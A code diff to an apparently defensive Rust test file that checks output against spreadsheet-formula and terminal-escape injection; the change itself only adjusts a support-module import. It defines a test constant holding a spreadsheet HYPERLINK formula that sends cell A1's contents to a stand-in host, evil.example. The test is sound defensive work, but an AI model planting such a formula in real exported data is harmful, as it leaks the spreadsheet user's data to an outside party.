@@ -1,13 +1,11 @@
 //! Output that cannot be turned against its reader: server text with spreadsheet formulas
 //! and terminal escapes, tables as wide as the terminal, charts of extreme values.
 
-mod support;
-
 use std::path::Path;
 use std::time::Duration;
 
 use serde_json::{Value, json};
-use support::*;
+use crate::support::*;
 
 /// Text a spreadsheet would run, or a terminal would act on.
 const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
